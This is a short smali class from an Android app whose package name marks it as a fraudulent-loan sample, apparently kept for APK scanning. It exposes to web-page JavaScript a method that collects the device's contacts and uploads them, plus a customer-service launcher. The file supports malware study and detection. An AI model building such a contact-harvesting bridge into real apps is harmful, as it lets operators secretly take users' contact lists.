.class public Lorg/apkscan/sample/fraudloan/JsBridge;
.super Ljava/lang/Object;
.source "JsBridge.java"

.field private final context:Landroid/content/Context;

.method public constructor <init>(Landroid/content/Context;)V
    .registers 2
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lorg/apkscan/sample/fraudloan/JsBridge;->context:Landroid/content/Context;
    return-void
.end method

.method public uploadContacts()Ljava/lang/String;
    .registers 2
    .annotation runtime Landroid/webkit/JavascriptInterface;
    .end annotation
    iget-object v0, p0, Lorg/apkscan/sample/fraudloan/JsBridge;->context:Landroid/content/Context;
    invoke-static {v0}, Lorg/apkscan/sample/fraudloan/data/ContactsUploader;->collectAndUpload(Landroid/content/Context;)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public openKefu()V
    .registers 4
    .annotation runtime Landroid/webkit/JavascriptInterface;
    .end annotation
    iget-object v0, p0, Lorg/apkscan/sample/fraudloan/JsBridge;->context:Landroid/content/Context;
    new-instance v1, Landroid/content/Intent;
    const-class v2, Lorg/apkscan/sample/fraudloan/KefuActivity;
    invoke-direct {v1, v0, v2}, Landroid/content/Intent;-><init>(Landroid/content/Context;Ljava/lang/Class;)V
    invoke-virtual {v0, v1}, Landroid/content/Context;->startActivity(Landroid/content/Intent;)V
    return-void
.end method
